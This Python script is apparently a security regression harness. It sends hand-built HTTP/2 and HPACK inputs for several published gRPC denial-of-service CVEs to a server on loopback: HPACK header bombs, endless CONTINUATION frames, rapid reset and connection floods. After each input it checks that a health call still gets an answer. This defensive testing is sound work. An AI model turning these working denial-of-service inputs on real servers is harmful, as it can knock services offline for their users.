#!/usr/bin/python3
"""Sends the published attack inputs against gRPC's HTTP/2 server to a running misc-server.

    h2_attacks.py --target 127.0.0.1:PORT [--pid PID] CASE

Each CASE sends one family of inputs over raw HTTP/2 on plain TCP (frames and header blocks
written by hand, since no encoder writes these inputs; the server's answers decoded with
Debian's python3-hpack, which python3-h2 brings),
and after each input opens a NEW connection and makes a grpc.health.v1.Health/Check call over
raw HTTP/2 (the control). It prints one JSON object: what the server answered to each input
(RST_STREAM, GOAWAY, a closed connection, a gRPC status), the control's result, and, with
--pid, the server's resident memory and CPU time around each input.

Exit status: 0 when every input was sent and every control call was answered with grpc-status 0;
1 when a control call failed (the server crashed, stopped accepting or stopped answering: the
JSON says after which input); 2 when the script could not start (no server, bad arguments).

Cases (see docs/security.md for the CVEs):
  control      one Health/Check: proves the framing below is right.
  cve-2023-1428
               a header the parser keeps with an invalid value (te: trailers-not,
               :scheme: xyz, grpclb_client_stats: x), followed by header fields whose total
               exceeds the SETTINGS_MAX_HEADER_LIST_SIZE the server advertised: one large
               field, or many small ones, across CONTINUATION frames; the invalid field as a
               literal, and inserted into the dynamic table by one request and referenced by
               index from the next.
  cve-2023-33953
               HPACK inputs: a header block of many tiny fields; a string whose length claims
               4 GiB followed by megabytes of it; an integer padded with a megabyte of 0x80
               continuation bytes; HEADERS followed by CONTINUATION frames without end.
  cve-2023-32732
               while a call is open on a connection (Health/Watch), a second stream on the
               same connection carries a -bin header that is not base64, then one carries an
               oversized header list; reports whether the open call survived.
  cve-2023-44487
               rapid reset: thousands of streams opened and reset at once on one connection.
  cve-2023-4785
               connection flood: more TCP connections than the server has file descriptors,
               held, then released.

Every loop is bounded in count and time and every connection goes to the --target address,
which must be on the loopback network.
"""

import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113, section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_MAX_FRAME_SIZE, SETTINGS_MAX_HEADER_LIST_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS = (
    0x5, 0x6, 0x3)
CANCEL = 0x8

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
# A misc method answered from memory, through a CallRunner (an empty request is valid).
LIST_PREFECTURES = "/misc.area.v1.AreaService/ListPrefectures"
# A gRPC message frame holding an empty HealthCheckRequest (service "": the whole server).
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"

# RFC 7541, section 4.1: the size of a header field is its name, its value and 32.
FIELD_OVERHEAD = 32

MIB = 1 << 20
# Header blocks go out in frames of the size every HTTP/2 peer accepts (RFC 9113, 4.2), so
# that a large one takes many CONTINUATION frames.
FRAME = 16384


def frame(frame_type, flags, stream, payload):
    """One frame (RFC 9113, section 4.1)."""
    return (struct.pack(">I", len(payload))[1:] + bytes([frame_type, flags]) +
            struct.pack(">I", stream & 0x7FFFFFFF) + payload)


class Closed(Exception):
    """The server closed the connection."""


# --- HPACK written by hand (RFC 7541, section 5 and 6) -------------------------------------

def hpack_int(value, prefix_bits, first_byte_flags=0, zero_padding=0):
    """Encodes `value` with an N-bit prefix; `zero_padding` 0x80 bytes are inserted before the
    last byte, which the format allows and which change nothing (CVE-2023-33953)."""
    limit = (1 << prefix_bits) - 1
    if value < limit and zero_padding == 0:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out += b"\x80" * zero_padding
    out.append(value)
    return bytes(out)


def hpack_str(data):
    """A string literal without Huffman coding."""
    if isinstance(data, str):
        data = data.encode()
    return hpack_int(len(data), 7) + data


def literal(name, value, index=False):
    """A literal field with a literal name: without indexing (0x00) or with incremental
    indexing (0x40), which adds it to the receiver's dynamic table."""
    return (b"\x40" if index else b"\x00") + hpack_str(name) + hpack_str(value)


def literal_indexed_name(name_index, value, index=False):
    """A literal field whose name is entry `name_index` of the tables."""
    if index:
        return hpack_int(name_index, 6, 0x40) + hpack_str(value)
    return hpack_int(name_index, 4, 0x00) + hpack_str(value)


def indexed(index):
    """A field that is entry `index` of the tables (static 1..61, dynamic from 62)."""
    return hpack_int(index, 7, 0x80)


def plain_block(fields):
    """A header block of literal fields without indexing."""
    return b"".join(literal(name, value) for name, value in fields)


def field_size(name, value):
    return len(name) + len(value) + FIELD_OVERHEAD


# --- One HTTP/2 connection -----------------------------------------------------------------

class Connection:
    """A client connection: the preface and SETTINGS exchange, frames out, frames in."""

    def __init__(self, host, port, timeout=5.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.buffer = b""
        self.next_stream = 1
        self.settings = {}
        self.goaway = None
        self.closed = False
        self.streams = {}
        self.send_raw(PREFACE)
        self.send_frame(SETTINGS, 0, 0, b"")
        # The server's SETTINGS come first (RFC 9113, section 3.4).
        deadline = time.monotonic() + timeout
        while "received" not in self.settings:
            if time.monotonic() >= deadline:
                self.sock.close()
                raise Closed("no SETTINGS from the server")
            self.read_once(deadline)

    @property
    def max_frame_size(self):
        return self.settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)

    @property
    def max_header_list_size(self):
        return self.settings.get(SETTINGS_MAX_HEADER_LIST_SIZE)

    def new_stream(self):
        stream = self.next_stream
        self.next_stream += 2
        self.streams[stream] = {"headers": [], "data": 0}
        return stream

    def send_frame(self, frame_type, flags, stream, payload):
        self.send_raw(frame(frame_type, flags, stream, payload))

    def send_raw(self, data):
        try:
            self.sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError, socket.timeout) as error:
            self.closed = True
            raise Closed(str(error)) from error

    def send_block(self, stream, block, end_stream=False, end_headers=True, chunk=None):
        """Sends header block `block` as HEADERS and as many CONTINUATION frames as the
        server's SETTINGS_MAX_FRAME_SIZE (or `chunk`) asks; END_HEADERS on the last frame
        unless `end_headers` is False."""
        size = min(chunk or FRAME, self.max_frame_size)
        pieces = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
        for i, piece in enumerate(pieces):
            last = i == len(pieces) - 1
            flags = (END_HEADERS if last and end_headers else 0)
            if i == 0:
                self.send_frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, piece)
            else:
                self.send_frame(CONTINUATION, flags, stream, piece)
            if not last and i % 64 == 63:
                self.drain()  # Answer PINGs and notice a GOAWAY while sending.

    def request_block(self, path, extra=b""):
        """The header block of a gRPC request to `path` over plain HTTP, then `extra`. Every
        field is a literal without indexing: the server's dynamic table holds only what an
        input puts there on purpose."""
        return plain_block(self.request_fields(path)) + extra

    def request_fields(self, path):
        return [(":method", "POST"), (":scheme", "http"), (":path", path),
                (":authority", self.authority), ("content-type", "application/grpc"),
                ("te", "trailers")]

    def read_once(self, deadline):
        """Reads what arrives before `deadline` and handles the complete frames in it."""
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return False
        self.sock.settimeout(min(remaining, 0.5))
        try:
            data = self.sock.recv(1 << 16)
        except socket.timeout:
            return False
        except (ConnectionResetError, BrokenPipeError):
            data = b""
        if not data:
            self.closed = True
            raise Closed("connection closed by the server")
        self.buffer += data
        self.handle_buffered()
        return True

    def handle_buffered(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            frame_type, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            self.handle(frame_type, flags, stream, payload)

    def handle(self, frame_type, flags, stream, payload):
        state = self.streams.setdefault(stream, {"headers": [], "data": 0})
        if frame_type == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                self.settings[key] = value
            self.settings["received"] = True
            self.send_frame(SETTINGS, ACK, 0, b"")
        elif frame_type == PING and not flags & ACK:
            self.send_frame(PING, ACK, 0, payload)
        elif frame_type == GOAWAY:
            last_stream, code = struct.unpack(">II", payload[:8])
            self.goaway = {"last_stream": last_stream & 0x7FFFFFFF, "code": code,
                           "debug": payload[8:].decode("utf-8", "replace")[:300]}
        elif frame_type == RST_STREAM:
            state["rst"] = struct.unpack(">I", payload[:4])[0]
        elif frame_type == HEADERS:
            # Responses are never split into CONTINUATION frames here: they are small.
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1:len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            fields = [(k.decode() if isinstance(k, bytes) else k,
                       v.decode() if isinstance(v, bytes) else v)
                      for k, v in self.decoder.decode(block)]
            state["headers"].append(dict(fields))
            if flags & END_STREAM:
                state["ended"] = True
        elif frame_type == DATA:
            state["data"] += len(payload)
            if payload:
                # Give the credit back so that a streaming call is never stalled.
                increment = struct.pack(">I", len(payload))
                self.send_frame(WINDOW_UPDATE, 0, 0, increment)
                self.send_frame(WINDOW_UPDATE, 0, stream, increment)
            if flags & END_STREAM:
                state["ended"] = True

    def drain(self, seconds=0.0):
        """Handles whatever the server has sent, waiting up to `seconds`."""
        deadline = time.monotonic() + seconds
        self.sock.setblocking(False)
        try:
            while True:
                try:
                    data = self.sock.recv(1 << 16)
                except (BlockingIOError, InterruptedError):
                    break
                except (ConnectionResetError, BrokenPipeError):
                    data = b""
                if not data:
                    self.closed = True
                    raise Closed("connection closed by the server")
                self.buffer += data
        finally:
            self.sock.setblocking(True)
        self.handle_buffered()
        while time.monotonic() < deadline:
            self.read_once(deadline)

    def wait_stream(self, stream, seconds):
        """Waits until `stream` ends (END_STREAM or RST_STREAM), the connection closes or
        `seconds` pass; returns what the stream got."""
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline:
                state = self.streams[stream]
                if state.get("ended") or "rst" in state:
                    break
                if self.goaway is not None and stream > self.goaway["last_stream"]:
                    break
                self.read_once(deadline)
        except Closed:
            pass
        return self.outcome(stream)

    def outcome(self, stream):
        state = self.streams.get(stream, {})
        result = {}
        if state.get("headers"):
            last = state["headers"][-1]
            if "grpc-status" in last:
                result["grpc_status"] = int(last["grpc-status"])
                if last.get("grpc-message"):
                    result["grpc_message"] = last["grpc-message"][:200]
            first = state["headers"][0]
            if ":status" in first:
                result["http_status"] = int(first[":status"])
        if "rst" in state:
            result["rst_stream"] = state["rst"]
        if self.goaway is not None:
            result["goaway"] = self.goaway
        if self.closed:
            result["connection_closed"] = True
        if not result:
            result["no_answer"] = True
        return result

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def server_receive_queue(server_port, client_port):
    """Bytes waiting in the receive queue of the server's end of a loopback connection, from
    /proc/net/tcp; -1 when the connection is not there (closed)."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as rows:
                next(rows)
                for row in rows:
                    fields = row.split()
                    local, remote = fields[1], fields[2]
                    if (int(local.rsplit(":", 1)[1], 16) == server_port and
                            int(remote.rsplit(":", 1)[1], 16) == client_port):
                        return int(fields[4].split(":")[1], 16)
        except OSError:
            continue
    return -1


# --- The server process seen from /proc ---------------------------------------------------

class Process:
    def __init__(self, pid):
        self.pid = pid

    def alive(self):
        if self.pid is None:
            return None
        try:
            with open(f"/proc/{self.pid}/stat") as stat:
                return stat.read().split(")")[-1].split()[0] not in ("Z", "X")
        except OSError:
            return False

    def rss_mib(self):
        if self.pid is None:
            return None
        try:
            with open(f"/proc/{self.pid}/status") as status:
                for line in status:
                    if line.startswith("VmRSS:"):
                        return round(int(line.split()[1]) / 1024, 1)
        except OSError:
            return None
        return None

    def cpu_seconds(self):
        if self.pid is None:
            return None
        try:
            with open(f"/proc/{self.pid}/stat") as stat:
                fields = stat.read().split(")")[-1].split()
            return round((int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), 2)
        except OSError:
            return None

    def fds(self):
        if self.pid is None:
            return None
        try:
            return len(os.listdir(f"/proc/{self.pid}/fd"))
        except OSError:
            return None


# --- Cases --------------------------------------------------------------------------------

class Run:
    def __init__(self, host, port, pid):
        self.host, self.port = host, port
        self.process = Process(pid)
        self.report = {"target": f"{host}:{port}", "inputs": []}
        self.failed = False

    def connect(self, timeout=5.0):
        return Connection(self.host, self.port, timeout)

    def control(self, timeout=5.0):
        """A Health/Check on a new connection: grpc-status 0 or a description of the failure."""
        try:
            conn = self.connect(timeout)
        except (OSError, Closed) as error:
            return {"ok": False, "error": f"cannot connect: {error}"}
        try:
            stream = conn.new_stream()
            conn.send_block(stream, conn.request_block(HEALTH_CHECK))
            conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            outcome = conn.wait_stream(stream, timeout)
        except (Closed, OSError) as error:
            outcome = {"connection_closed": True, "error": str(error)}
        finally:
            conn.close()
        outcome["ok"] = outcome.get("grpc_status") == 0
        return outcome

    def attempt(self, name, send, control_seconds=5.0):
        """Runs `send` (which returns a dict of what the server answered), then the control
        call, and records both. A failed control call is tried again, for `control_seconds`
        in all, before it counts (the server may still be cleaning up after the input)."""
        entry = {"input": name, "rss_mib_before": self.process.rss_mib(),
                 "cpu_s_before": self.process.cpu_seconds()}
        started = time.monotonic()
        try:
            entry["answer"] = send()
        except Closed as error:
            entry["answer"] = {"connection_closed": True, "while": "sending", "error": str(error)}
        except (OSError, socket.timeout) as error:
            entry["answer"] = {"error": f"{type(error).__name__}: {error}"}
        entry["seconds"] = round(time.monotonic() - started, 2)
        entry["rss_mib_after"] = self.process.rss_mib()
        entry["cpu_s_after"] = self.process.cpu_seconds()
        deadline = time.monotonic() + control_seconds
        tries = 0
        while True:
            tries += 1
            control = self.control(timeout=2.0)
            if control["ok"] or time.monotonic() >= deadline:
                break
            time.sleep(0.5)
        control["tries"] = tries
        entry["control"] = control
        entry["server_alive"] = self.process.alive()
        print(f"{entry['seconds']:7.1f}s  control {'ok' if control['ok'] else 'FAILED'}  {name}",
              file=sys.stderr, flush=True)
        if not control["ok"] or entry["server_alive"] is False:
            self.failed = True
        self.report["inputs"].append(entry)
        return entry

    # control ------------------------------------------------------------------------------

    def case_control(self):
        conn = self.connect()
        self.report["server_settings"] = {
            "max_frame_size": conn.max_frame_size,
            "max_header_list_size": conn.max_header_list_size,
            "max_concurrent_streams": conn.settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)}
        conn.close()
        self.attempt("control", lambda: {})

    # CVE-2023-1428 --------------------------------------------------------------------------

    def padding(self, limit, style, used):
        """Header fields (hand-encoded, literal without indexing) whose sizes add up to more
        than `limit` - `used` + 1 KiB: one field, or fields of 100 bytes."""
        target = limit - used + 1024
        if style == "one":
            value = "a" * (target - FIELD_OVERHEAD - len("x-pad"))
            return literal("x-pad", value)
        out = []
        i = 0
        total = 0
        while total <= target:
            name = f"x-pad-{i:05d}"
            value = "p" * (100 - len(name) - FIELD_OVERHEAD + 32)
            out.append(literal(name, value))
            total += field_size(name, value)
            i += 1
        return b"".join(out)

    def request_with(self, conn, bad_field, position):
        """A Health/Check request header block with `bad_field` (bytes of one encoded field)
        in it: `position` "early" (right after the pseudo-headers, before te), or "late"
        (after every ordinary field)."""
        fields = conn.request_fields(HEALTH_CHECK)
        head, tail = plain_block(fields[:4]), plain_block(fields[4:])
        return head + bad_field + tail if position == "early" else head + tail + bad_field

    def cve_2023_1428_once(self, bad, name_index, pad, mode):
        """One input: the request carrying the bad field, then the padding."""
        name, value = bad

        def send():
            conn = self.connect()
            limit = conn.max_header_list_size or 8192
            answer = {"advertised_max_header_list_size": conn.max_header_list_size}
            try:
                if mode == "dynamic":
                    # First request: the bad field with incremental indexing and no padding:
                    # it enters the server's dynamic table (as entry 62) whatever the server
                    # thinks of the request.
                    if name_index:
                        field = literal_indexed_name(name_index, value, index=True)
                    else:
                        field = literal(name, value, index=True)
                    first = conn.new_stream()
                    conn.send_block(first, self.request_with(conn, field, "early"))
                    conn.send_frame(DATA, END_STREAM, first, EMPTY_MESSAGE)
                    answer["first_request"] = conn.wait_stream(first, 3.0)
                    field = indexed(62)
                elif name_index:
                    field = literal_indexed_name(name_index, value)
                else:
                    field = literal(name, value)
                stream = conn.new_stream()
                used = 300 + field_size(name, value)
                block = self.request_with(conn, field, "early") + self.padding(limit, pad, used)
                answer["header_block_bytes"] = len(block)
                conn.send_block(stream, block)
                conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                answer.update(conn.wait_stream(stream, 5.0))
            finally:
                conn.close()
            return answer

        return self.attempt(f"cve-2023-1428 {name}: {value} ({mode}), then {pad} padding "
                            "past the header list limit", send)

    def largest_served_header_list(self, style="one", path=HEALTH_CHECK):
        """Bisects the largest header list (RFC 7541 count: every field, pseudo-headers
        included) with which a call to `path` (an empty request) is still served: what the limit
        really is. The padding is one field (`style` "one"), or fields of 100 bytes ("many"),
        which 1.51.1's transport counts per frame, not in total (misc counts them itself). The
        request's own fields go as literals without indexing, which gRPC 1.51 leaves out of its
        count, so the answer is between the advertised limit and that plus `request_fields`."""
        def pad_fields(size):
            if style == "one":
                return literal("x-pad", "v" * max(0, size - field_size("x-pad", "")))
            out, i = [], 0
            while size >= field_size("x-pad-00000", ""):
                name = f"x-pad-{i:05d}"
                value = "p" * max(0, min(size, 100) - field_size(name, ""))
                out.append(literal(name, value))
                size -= field_size(name, value)
                i += 1
            return b"".join(out)

        def served(total):
            conn = self.connect()
            try:
                used = sum(field_size(n, v) for n, v in conn.request_fields(path))
                stream = conn.new_stream()
                conn.send_block(stream, conn.request_block(path) + pad_fields(total - used))
                conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                return conn.wait_stream(stream, 5.0).get("grpc_status") == 0
            except Closed:
                return False
            finally:
                conn.close()

        conn = self.connect()
        advertised = conn.max_header_list_size or 8192
        request_fields = sum(field_size(n, v) for n, v in conn.request_fields(path))
        conn.close()
        answer = {"advertised": advertised, "request_fields": request_fields,
                  "style": style, "path": path, "largest_served": None}
        low, high = 400, 4 * advertised
        if not served(low):
            return answer
        if served(high):  # Not bounded within the range: say how far it goes.
            answer["largest_served"] = high
            answer["served_one_mib"] = served(MIB)
            return answer
        while high - low > 1:
            middle = (low + high) // 2
            if served(middle):
                low = middle
            else:
                high = middle
        answer["largest_served"] = low
        return answer

    def case_cve_2023_1428(self):
        for style in ("one", "many"):
            for path in (HEALTH_CHECK, LIST_PREFECTURES):
                self.attempt(f"the header list limit, measured: {style} padding field(s), {path}",
                             lambda style=style, path=path:
                             self.largest_served_header_list(style, path))
        # The three fields of the advisory. :scheme is entry 6 of the static table (the name
        # an encoder would reference); te and grpclb_client_stats have no static entry.
        bad_fields = [(("te", "trailers-not"), 0), ((":scheme", "xyz"), 6),
                      (("grpclb_client_stats", "x"), 0)]
        for bad, name_index in bad_fields:
            for pad in ("one", "many"):
                for mode in ("literal", "dynamic"):
                    self.cve_2023_1428_once(bad, name_index, pad, mode)
        # The advisory's wording: the bad field, then another field that crosses the limit,
        # with the bad field last among the ordinary ones too.
        for bad, name_index in bad_fields:
            def send(bad=bad, name_index=name_index):
                conn = self.connect()
                limit = conn.max_header_list_size or 8192
                try:
                    field = (literal_indexed_name(name_index, bad[1]) if name_index
                             else literal(*bad))
                    stream = conn.new_stream()
                    block = (self.request_with(conn, field, "late") +
                             self.padding(limit, "one", 300))
                    conn.send_block(stream, block)
                    conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                    return conn.wait_stream(stream, 5.0)
                finally:
                    conn.close()
            self.attempt(f"cve-2023-1428 {bad[0]}: {bad[1]} after the ordinary fields, "
                         "then one field past the limit", send)

    # CVE-2023-33953 -------------------------------------------------------------------------

    def case_cve_2023_33953(self, mib):
        def many_tiny_fields():
            # 200,000 fields "a: 1", 5 bytes each: 1 MB of header block (6.8 MB by the
            # RFC 7541 count), ending with END_HEADERS.
            conn = self.connect()
            try:
                stream = conn.new_stream()
                block = conn.request_block(HEALTH_CHECK) + literal("a", "1") * 200_000
                conn.send_block(stream, block)
                conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                return conn.wait_stream(stream, 10.0)
            finally:
                conn.close()

        def unfinished(first_bytes, filler, frame_size, gap):
            """HEADERS with the request and `first_bytes`, then `mib` MiB of `filler` in
            CONTINUATION frames of `frame_size` bytes, `gap` seconds apart, never END_HEADERS;
            returns once the server has read them all and stopped working on them."""
            conn = self.connect(timeout=120.0)
            try:
                stream = conn.new_stream()
                conn.send_block(stream, conn.request_block(HEALTH_CHECK) + first_bytes,
                                end_headers=False)
                cpu_before = self.process.cpu_seconds()
                chunk = filler * frame_size
                sent = 0
                while sent < mib * MIB:
                    conn.send_frame(CONTINUATION, 0, stream, chunk)
                    sent += len(chunk)
                    if gap:
                        time.sleep(gap)
                answer = {"sent_mib": round(sent / MIB, 1), "frame_bytes": frame_size}
                answer.update(self.settle(conn))
                if cpu_before is not None:
                    answer["server_cpu_s"] = round(self.process.cpu_seconds() - cpu_before, 2)
                answer["rss_mib_while_open"] = self.process.rss_mib()
                answer.update(conn.wait_stream(stream, 1.0))
                return answer
            finally:
                conn.close()

        huge_length = b"\x00" + hpack_str("x-huge") + hpack_int(0xFFFFFFFF, 7)

        def padded_varint():
            # The name length of a literal field (127 + 0) with a megabyte of 0x80 bytes in
            # it, across CONTINUATION frames, then END_HEADERS: a valid request.
            conn = self.connect()
            try:
                stream = conn.new_stream()
                field = b"\x00" + hpack_int(127, 7, zero_padding=MIB) + b"n" * 127
                field += hpack_str("v")
                conn.send_block(stream, conn.request_block(HEALTH_CHECK) + field)
                conn.send_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                return conn.wait_stream(stream, 10.0)
            finally:
                conn.close()

        def endless_fields():
            # HEADERS, then CONTINUATION frames full of small fields ("a: 0", "a: 1", ...),
            # never END_HEADERS.
            conn = self.connect(timeout=30.0)
            try:
                stream = conn.new_stream()
                conn.send_block(stream, conn.request_block(HEALTH_CHECK), end_headers=False)
                sent = 0
                i = 0
                payload = bytearray()
                while sent < mib * MIB:
                    field = literal("a", str(i % 10))
                    if len(payload) + len(field) > FRAME:
                        conn.send_frame(CONTINUATION, 0, stream, bytes(payload))
                        sent += len(payload)
                        payload = bytearray()
                        if (sent // FRAME) % 64 == 0:
                            conn.drain()
                    payload += field
                    i += 1
                answer = {"sent_mib": round(sent / MIB, 1)}
                answer.update(conn.wait_stream(stream, 2.0))
                return answer
            finally:
                conn.close()

        self.attempt("cve-2023-33953 200,000 tiny header fields in one block", many_tiny_fields)
        self.attempt(f"cve-2023-33953 a string length of 4 GiB, then {mib} MiB of the string "
                     "in 16 KiB frames", lambda: unfinished(huge_length, b"v", FRAME, 0))
        self.attempt(f"cve-2023-33953 a string length of 4 GiB, then {mib} MiB of the string "
                     "trickled in 1 KiB frames", lambda: unfinished(huge_length, b"v", 1024, 2e-4))
        self.attempt(f"cve-2023-33953 an integer padded with {mib} MiB of 0x80 bytes, "
                     "trickled in 1 KiB frames",
                     lambda: unfinished(b"\x00\x7f", b"\x80", 1024, 2e-4))
        self.attempt("cve-2023-33953 an integer padded with 1 MiB of 0x80 bytes in a request",
                     padded_varint)
        self.attempt(f"cve-2023-33953 HEADERS, then {mib} MiB of small fields in CONTINUATION "
                     "frames without END_HEADERS", endless_fields)

    def settle(self, conn, most_seconds=300.0):
        """Waits until the server has read everything sent on `conn` (its socket's receive
        queue is empty) and its CPU time stopped growing: the work an input caused is done."""
        started = time.monotonic()
        port = conn.sock.getsockname()[1]
        while time.monotonic() - started < most_seconds:
            if server_receive_queue(self.port, port) <= 0:
                break
            time.sleep(0.1)
        previous = None
        while time.monotonic() - started < most_seconds:
            now = self.process.cpu_seconds()
            if now is None or now == previous:
                break
            previous = now
            time.sleep(1.0)
        return {"server_busy_s": round(time.monotonic() - started, 1)}
    # CVE-2023-32732 -------------------------------------------------------------------------

    def case_cve_2023_32732(self):
        def bystander_after(bad_block_of, label):
            conn = self.connect()
            try:
                watch = conn.new_stream()
                conn.send_block(watch, conn.request_block(HEALTH_WATCH))
                conn.send_frame(DATA, END_STREAM, watch, EMPTY_MESSAGE)
                conn.drain(1.0)  # The first SERVING arrives on the watch.
                bad = conn.new_stream()
                conn.send_block(bad, bad_block_of(conn))
                conn.send_frame(DATA, END_STREAM, bad, EMPTY_MESSAGE)
                answer = {"bad_stream": conn.wait_stream(bad, 5.0)}
                try:
                    conn.drain(1.0)
                except Closed:
                    pass
                answer["open_call"] = conn.outcome(watch)
                answer["open_call_got_data_bytes"] = conn.streams[watch]["data"]
                answer["open_call_survived"] = not (
                    conn.closed or "rst" in conn.streams[watch] or
                    conn.streams[watch].get("ended") or conn.goaway is not None)
                return answer
            finally:
                conn.close()

        def bad_base64(conn):
            return conn.request_block(HEALTH_CHECK) + literal("x-evil-bin", "!!!not base64!!!")

        def oversized(conn):
            limit = conn.max_header_list_size or 8192
            return conn.request_block(HEALTH_CHECK) + literal(
                "authorization", "Bearer " + "t" * limit)

        self.attempt("cve-2023-32732 a -bin header that is not base64 next to an open call",
                     lambda: bystander_after(bad_base64, "bin"))
        self.attempt("an oversized header list (a bearer token past the limit) next to an "
                     "open call", lambda: bystander_after(oversized, "oversized"))

    # CVE-2023-44487 -------------------------------------------------------------------------

    def case_cve_2023_44487(self):
        def rapid_reset():
            conn = self.connect()
            try:
                streams = 20_000
                batch = bytearray()
                for n in range(streams):
                    stream = conn.new_stream()
                    conn.streams.pop(stream, None)
                    block = conn.request_block("/misc.restaurant.v1.RestaurantService/"
                                               "GetRestaurant")
                    batch += frame(HEADERS, END_HEADERS, stream, block)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    if len(batch) > 256 * 1024:
                        conn.send_raw(bytes(batch))
                        batch = bytearray()
                        conn.drain()
                if batch:
                    conn.send_raw(bytes(batch))
                answer = {"streams_opened_and_reset": streams}
                try:
                    conn.drain(1.0)
                except Closed:
                    answer["connection_closed"] = True
                if conn.goaway is not None:
                    answer["goaway"] = conn.goaway
                return answer
            finally:
                conn.close()

        self.attempt("cve-2023-44487 20,000 streams opened and reset on one connection",
                     rapid_reset)

    # CVE-2023-4785 --------------------------------------------------------------------------

    def case_cve_2023_4785(self, connections, hold_seconds):
        def flood():
            socks = []
            refused = 0
            fds_before = self.process.fds()
            started = time.monotonic()
            try:
                for _ in range(connections):
                    if time.monotonic() - started > 30:
                        break
                    try:
                        sock = socket.create_connection((self.host, self.port), timeout=2)
                        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                        struct.pack("ii", 1, 0))
                        socks.append(sock)
                    except OSError:
                        refused += 1
                # Each connection speaks HTTP/2, so that the server keeps it (a silent one is
                # closed after the handshake timeout).
                for sock in socks:
                    try:
                        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                    except OSError:
                        pass
                time.sleep(hold_seconds)
                answer = {"connections_opened": len(socks), "refused": refused,
                          "server_fds_before": fds_before,
                          "server_fds_while_held": self.process.fds()}
                answer["health_while_held"] = self.control(timeout=2.0)
            finally:
                for sock in socks:
                    sock.close()
            time.sleep(1.0)
            answer["server_fds_after_release"] = self.process.fds()
            return answer

        self.attempt(f"cve-2023-4785 {connections} connections held {hold_seconds}s, "
                     "then released", flood, control_seconds=15.0)


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True, help="HOST:PORT of the server (loopback)")
    parser.add_argument("--pid", type=int, help="the server's process id, to watch in /proc")
    parser.add_argument("--connections", type=int, default=1000,
                        help="cve-2023-4785: how many connections to open")
    parser.add_argument("--megabytes", type=int, default=8,
                        help="cve-2023-33953: how much each unfinished header block sends")
    parser.add_argument("--hold_seconds", type=float, default=2.0,
                        help="cve-2023-4785: how long to hold them")
    parser.add_argument("case", choices=["control", "cve-2023-1428", "cve-2023-33953",
                                         "cve-2023-32732", "cve-2023-44487", "cve-2023-4785"])
    args = parser.parse_args()
    host, _, port = args.target.rpartition(":")
    try:
        if not ipaddress.ip_address(host).is_loopback:
            parser.error("--target must be a loopback address")
    except ValueError:
        parser.error("--target must be IP:PORT")
    if args.connections > 5000:
        parser.error("--connections is at most 5000")
    if args.megabytes > 64:
        parser.error("--megabytes is at most 64")

    run = Run(host, int(port), args.pid)
    try:
        run.case_control()
    except (OSError, Closed) as error:
        print(json.dumps({"error": f"no HTTP/2 server at {args.target}: {error}"}))
        return 2
    if run.failed:
        print(json.dumps(run.report, indent=1))
        return 2
    handler = {
        "control": lambda: None,
        "cve-2023-1428": run.case_cve_2023_1428,
        "cve-2023-33953": lambda: run.case_cve_2023_33953(args.megabytes),
        "cve-2023-32732": run.case_cve_2023_32732,
        "cve-2023-44487": run.case_cve_2023_44487,
        "cve-2023-4785": lambda: run.case_cve_2023_4785(args.connections, args.hold_seconds),
    }[args.case]
    handler()
    run.report["ok"] = not run.failed
    print(json.dumps(run.report, indent=1))
    return 1 if run.failed else 0


if __name__ == "__main__":
    sys.exit(main())
